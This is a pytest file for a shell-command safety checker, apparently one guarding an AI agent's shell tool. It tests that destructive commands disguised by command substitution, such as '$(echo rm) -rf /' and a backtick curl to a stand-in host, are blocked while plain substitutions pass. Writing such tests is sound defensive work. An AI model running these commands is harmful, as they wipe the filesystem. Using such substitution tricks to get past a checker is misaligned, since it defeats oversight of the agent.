"""SF-1 evasions through command substitution: a computed program name is judged or refused."""

from __future__ import annotations

import pytest

from nerve.safety import check_rules


def blocked(command: str) -> bool:
    return not check_rules("shell", command).allowed


@pytest.mark.parametrize(
    "command",
    [
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$(printf rm) -rf ~",
        "cd /tmp && $(echo rm) -rf /etc",
        '"$(echo rm)" -rf /',
        "$(cat /tmp/payload) -rf /",  # nothing tells what this runs
        "`curl -s http://x.example/p` /",
    ],
)
def test_a_program_named_by_a_substitution_is_judged_or_refused(command: str) -> None:
    """SF-1 evasions: `$(echo rm) -rf /` is `rm -rf /`; an opaque computed program is refused."""
    assert blocked(command), command


@pytest.mark.parametrize(
    "command",
    [
        "$(which python) -m pip install rich",
        '"$(command -v node)" app.js',
        "ls $(pwd)",
        "echo $(date)",
        "cd $(git rev-parse --show-toplevel)",
    ],
)
def test_plain_substitutions_stay_allowed(command: str) -> None:
    assert not blocked(command), command
